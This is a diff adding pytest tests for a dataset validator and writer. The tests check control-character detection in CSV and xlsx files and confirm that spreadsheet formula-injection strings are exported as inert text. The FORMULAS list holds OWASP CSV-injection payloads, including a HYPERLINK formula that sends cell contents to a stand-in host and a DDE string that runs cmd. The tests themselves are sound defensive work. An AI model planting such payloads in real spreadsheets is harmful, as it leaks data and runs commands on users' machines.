@@ -200,6 +200,57 @@ def test_every_problem_is_listed_with_row_and_column(tmp_path):
     assert rows == sorted(rows)
 
 
+@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
+def test_control_characters_in_ids_and_text_are_problems(tmp_path, name):
+    """NUL, a tab or a line break in an id, and in other text a character no workbook can hold."""
+    folder = dataset(
+        tmp_path / "d",
+        workshops=(
+            "workshop_id,territory,workers,products,processes,notes\n"
+            "W\x001,Pilar,4,tshirt,sewing,ok\n"  # row 2
+            '"W\t2",Pilar,2,tshirt,sewing,"two\tlines\nare fine"\n'  # row 3
+            "W3,Pil\x7far,2,tshirt,sewing,bell\x07\n"  # row 4
+        ),
+        lead_firms="firm_id,name\nF1,Firm\x01One\n",
+        orders='order_id,product,quantity,due_weeks,firm_id\n"O\n1",tshirt,4,2,F1\n',
+    )
+    path = folder
+    if name != "folder":  # a workbook cannot hold the C0 characters: write those cells without them
+        from openpyxl import Workbook
+
+        path = tmp_path / name
+        book = Workbook()
+        book.active.append(["workshop_id", "territory", "workers", "products", "processes", "notes"])
+        book.active.append(["W\t2", "Pilar", 2, "tshirt", "sewing", "two\tlines\nare fine"])
+        book.active.append(["W3", "Pil\x7far", 2, "tshirt", "sewing", "ok"])
+        book.active.title = "workshops"
+        book.save(path)
+        assert [p.split(": holds")[0] for p in problems(path)] == [
+            "cluster.xlsx:workshops row 2, column workshop_id",
+            "cluster.xlsx:workshops row 3, column territory",
+        ]
+        return
+    found = problems(path)
+    assert found == [
+        "workshops.csv row 2, column workshop_id: holds a control character (\\x00); ids may hold none, "
+        "not even a tab or a line break",
+        "workshops.csv row 3, column workshop_id: holds a control character (\\t); ids may hold none, "
+        "not even a tab or a line break",
+        "workshops.csv row 4, column notes: holds a control character (\\x07) that no workbook can store; "
+        "remove it",
+        "workshops.csv row 4, column territory: holds a control character (\\x7f); ids may hold none, "
+        "not even a tab or a line break",
+        "lead_firms.csv row 2, column name: holds a control character (\\x01) that no workbook can store; "
+        "remove it",
+        "orders.csv row 2, column order_id: holds a control character (\\n); ids may hold none, "
+        "not even a tab or a line break",
+    ]
+    said = validate_dataset(path).problems[0].say("es")
+    assert said.startswith(
+        "workshops.csv fila 2, columna workshop_id: contiene un carácter de control (\\x00)"
+    )
+
+
 def test_missing_columns_and_files(tmp_path):
     folder = dataset(tmp_path / "d", workshops="workshop_id,workers,products\nW1,2,tshirt\n")
     assert problems(folder) == [
@@ -411,6 +462,66 @@ def test_reliability_round_trips_known_and_unknown(tmp_path, name):
     loaded = load_cluster(path)
     assert loaded == cluster
     assert [w.reliability for w in loaded.workshops] == [w.reliability for w in workshops]
+
+
+#: Text a spreadsheet would run as a formula (OWASP CSV injection), and text that only looks like it.
+FORMULAS = (
+    '=HYPERLINK("http://x/?q="&B2,"U")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab first",
+    "\rCR first",
+    "'=quoted already",
+    "#N/A",
+)
+
+
+def _with_line_feeds(cluster: Cluster) -> Cluster:
+    firms = tuple(replace(f, name=f.name.replace("\r", "\n")) for f in cluster.lead_firms)
+    workshops = tuple(
+        replace(w, extra=tuple((k, v.replace("\r", "\n")) for k, v in w.extra)) for w in cluster.workshops
+    )
+    return replace(cluster, lead_firms=firms, workshops=workshops)
+
+
+@pytest.mark.parametrize("name", ["folder", "cluster.xlsx"])
+def test_every_formula_prefix_is_written_inert_and_read_back_equal(tmp_path, name):
+    cluster, _ = generate_cluster(len(FORMULAS), 1, seed=1)
+    firms = tuple(replace(cluster.lead_firms[0], firm_id=f"F{i}", name=t) for i, t in enumerate(FORMULAS))
+    workshops = tuple(
+        replace(w, extra=(("=notes", t), ("-lat", "-25.3")))
+        for w, t in zip(cluster.workshops, FORMULAS, strict=True)
+    )
+    cluster = replace(cluster, workshops=workshops, lead_firms=firms, orders=())
+    path = write_cluster(cluster, tmp_path / name)
+    if name == "folder":
+        import csv
+
+        with open(path / "lead_firms.csv", encoding="utf-8", newline="") as handle:
+            names = [row[1] for row in csv.reader(handle)][1:]
+        with open(path / "workshops.csv", encoding="utf-8", newline="") as handle:
+            rows = list(csv.reader(handle))
+        header, extra = rows[0][-2:], [row[-2:] for row in rows[1:]]
+    else:
+        from openpyxl import load_workbook
+
+        book = load_workbook(path)
+        cells = [row[1] for row in book["lead_firms"].iter_rows(min_row=2)]
+        assert {c.data_type for c in cells} == {"s"}  # text, never a formula ("f") or an error ("e")
+        names = [c.value for c in cells]
+        rows = [[c.value for c in row] for row in book["workshops"].iter_rows()]
+        header, extra = rows[0][-2:], [row[-2:] for row in rows[1:]]
+        assert {c.data_type for row in book["workshops"].iter_rows() for c in row if c.value} == {"s"}
+    inert = ["'" + t if t[0] in "=+-@\t\r'" else t for t in FORMULAS]
+    if name != "folder":  # XML (so a workbook) keeps a carriage return as a line feed
+        inert = [t.replace("\r", "\n") for t in inert]
+        cluster = load_cluster(write_cluster(_with_line_feeds(cluster), tmp_path / "lf"))
+    assert names == inert
+    assert header == ["'=notes", "'-lat"]
+    assert extra[0] == ["'" + FORMULAS[0], "-25.3"]  # a negative number is a number, not a formula
+    assert load_cluster(path).lead_firms == cluster.lead_firms
+    assert load_cluster(path).workshops == cluster.workshops
 
 
 def test_write_refuses_to_overwrite_and_is_atomic(tmp_path, monkeypatch):
